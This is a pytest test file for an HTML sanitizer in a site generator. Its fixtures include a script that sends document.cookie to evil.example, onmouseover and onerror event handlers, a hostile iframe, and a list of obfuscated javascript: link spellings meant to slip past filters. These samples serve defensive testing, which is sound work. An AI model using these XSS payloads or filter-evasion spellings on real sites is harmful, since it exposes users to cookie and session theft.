"""untrusted_html: sanitize — bodies from outside contributors are cleaned, embeds from allowed hosts kept."""

import pytest
from bs4 import BeautifulSoup
from conftest import SITE_YAML, explainer, messages, parse, run_build

from generator.markup.sanitize import sanitize_html, unsafe_urls

HOSTILE = """\
Intro <span onmouseover="steal()">hover</span>.

<script>document.location='https://evil.example/?'+document.cookie</script>

<figure class="embed"><iframe src="https://www.youtube.com/embed/abc" title="Video"></iframe></figure>

<iframe src="https://evil.example/frame" title="Evil"></iframe>

<img src="x.png" onerror="steal()" alt="x">

## What is safe?

| a | b |
|---|---|
| 1 | 2 |
"""


def test_sanitize_keeps_explainer_markup_and_drops_the_rest():
    html = sanitize_html(HOSTILE.replace("\n", " "), ["www.youtube.com"])
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find("script") is None
    assert all(not attr.startswith("on") for tag in soup.find_all(True) for attr in tag.attrs)
    frames = [f.get("src") for f in soup.find_all("iframe")]
    assert frames == ["https://www.youtube.com/embed/abc"]  # the refused frame is gone, not left empty


def test_unsafe_url_finder():
    assert unsafe_urls("[a](javascript:x)\n<a href='data:text/html,x'>\n[b](https://ok)\n") == [
        (0, "javascript"), (1, "data")]


# Links that browsers open as javascript: however they are spelt, each with the body line of its URL.
JAVASCRIPT_LINKS = [
    ("[x](&#106;avascript:alert(1))", 0),
    ("[x](java&#x09;script:alert(1))", 0),
    ("[x](JaVaScRiPt:alert(1))", 0),
    ("[x](  \x01javascript:alert(1))", 0),
    ("[x](<javascript&colon;alert(1)>)", 0),
    ("See [x][r].\n\n[r]: javascript:alert(1)", 2),
    ("See [x][r].\n\n  [R]:\n  &#x6A;avascript:alert(1) 'title'", 3),
    ("![x][pic]\n\n[pic]: JAVASCRIPT:alert(1)", 2),
    ('<a href="&#x6A;avascript:alert(1)">x</a>', 0),
    ("<A\nHREF = java&Tab;script:alert(1)>x</A>", 1),
    ("<a href=' javascript:alert(1)'>x</a>", 0),
    ('<a href="javas\tcript:alert(1)">x</a>', 0),
    ('<a href="&#x' + "0" * 300 + '6A;avascript:alert(1)">x</a>', 0),
    ('<a href="java' + "\t" * 300 + 'script:alert(1)">x</a>', 0),
]


@pytest.mark.parametrize(("policy", "level"), [("sanitize", "error"), ("trust", "warning")])
@pytest.mark.parametrize(("link", "offset"), JAVASCRIPT_LINKS)
def test_every_spelling_of_a_javascript_link_is_reported(make_site, policy, level, link, offset):
    root = make_site({"content/a.md": explainer("A", f"Intro.\n\n{link}\n")},
                     SITE_YAML + f"untrusted_html: {policy}\n")
    result = run_build(root)
    assert result.ok == (policy == "trust")
    found = [m for m in messages(result) if "javascript: URL" in m]
    assert len(found) == 1 and found[0].startswith(f"content/a.md:{7 + offset}: {level}: a javascript: URL"), found


def test_text_that_only_mentions_a_scheme_is_not_reported():
    text = "JavaScript: the language.\n\n[^1]: javascript: a footnote\n\n[ok](https://example.org/?q=javascript:x)\n"
    assert unsafe_urls(text) == []


def test_a_sanitized_site_builds_clean_pages_and_refuses_javascript_links(make_site):
    site_yaml = SITE_YAML + "untrusted_html: sanitize\n"
    root = make_site({"content/a.md": explainer("A", HOSTILE)}, site_yaml)
    result = run_build(root)
    assert result.ok, messages(result)
    page = parse(root / "output/a/index.html")
    body = page.find("main")
    assert body.find("script") is None and body.find("iframe", src="https://www.youtube.com/embed/abc")
    assert all(not a.startswith("on") for tag in body.find_all(True) for a in tag.attrs)
    assert body.find("section", class_="question").find("h2")["id"] == "what-is-safe"
    assert body.find("table") is not None
    (root / "content/b.md").write_text(explainer("B", "[x](javascript:alert(1))\n"))
    result = run_build(root)
    assert not result.ok
    assert any(m.startswith("content/b.md:5: error: a javascript: URL") for m in messages(result))


def test_policy_setting_is_validated(make_site):
    root = make_site({"content/a.md": explainer("A")}, SITE_YAML + "untrusted_html: maybe\n")
    assert "'untrusted_html' must be trust or sanitize" in "\n".join(messages(run_build(root)))


FORGED = """\
:::callout title="Note"
A block the sanitizer carries through.
:::

<a href="https://example.org/" title="nutgraf-block-token-0.">forged</a>
"""


def test_text_cannot_forge_a_block_placeholder(make_site):
    root = make_site({"content/a.md": explainer("A", FORGED)}, SITE_YAML + "untrusted_html: sanitize\n")
    result = run_build(root)
    assert result.ok, messages(result)
    body = parse(root / "output/a/index.html").find("main")
    link = body.find("a", string="forged")
    assert link["title"] == "nutgraf-block-token-0."  # the text as written, not the block's HTML
    assert len(body.select("aside, .callout")) >= 1 and "A block the sanitizer" in body.get_text()


FRAMES = """\
Intro.

<iframe src="https://evil.example/frame" title="Evil"></iframe>

:::callout title="Watch"
<iframe src="http://www.youtube.com/embed/plain-http" title="Plain"></iframe>
:::

<iframe src="https://www.youtube.com/embed/abc" title="Video"></iframe>
"""


def test_a_refused_iframe_is_removed_with_a_warning(make_site):
    root = make_site({"content/a.md": explainer("A", FRAMES)}, SITE_YAML + "untrusted_html: sanitize\n")
    result = run_build(root)
    assert result.ok, messages(result)
    body = parse(root / "output/a/index.html").find("main")
    assert [f.get("src") for f in body.find_all("iframe")] == ["https://www.youtube.com/embed/abc"]
    warned = [m for m in messages(result) if "iframe" in m]
    assert warned[0].startswith("content/a.md:7: warning: the iframe 'https://evil.example/frame' is removed")
    assert warned[1].startswith("content/a.md:10: warning: the iframe 'http://www.youtube.com/embed/plain-http'")
    assert len(warned) == 2


@pytest.mark.parametrize("policy", ["trust", "sanitize"])
def test_an_iframe_whose_address_cannot_be_read_is_no_traceback(make_site, policy):
    # "https://e.org[" opens an IPv6 address it never closes: urlsplit raises ValueError on it.
    body = 'Lede.\n\n<iframe src="https://www.youtube.com[/embed/x"></iframe>\n\nhttps://youtu.be/abcdefgh[\n'
    root = make_site({"content/a.md": explainer("A", body)}, SITE_YAML + f"untrusted_html: {policy}\n")
    result = run_build(root)
    assert result.ok, messages(result)
    if policy == "sanitize":
        assert any("the iframe 'https://www.youtube.com[/embed/x' is removed" in m for m in messages(result))
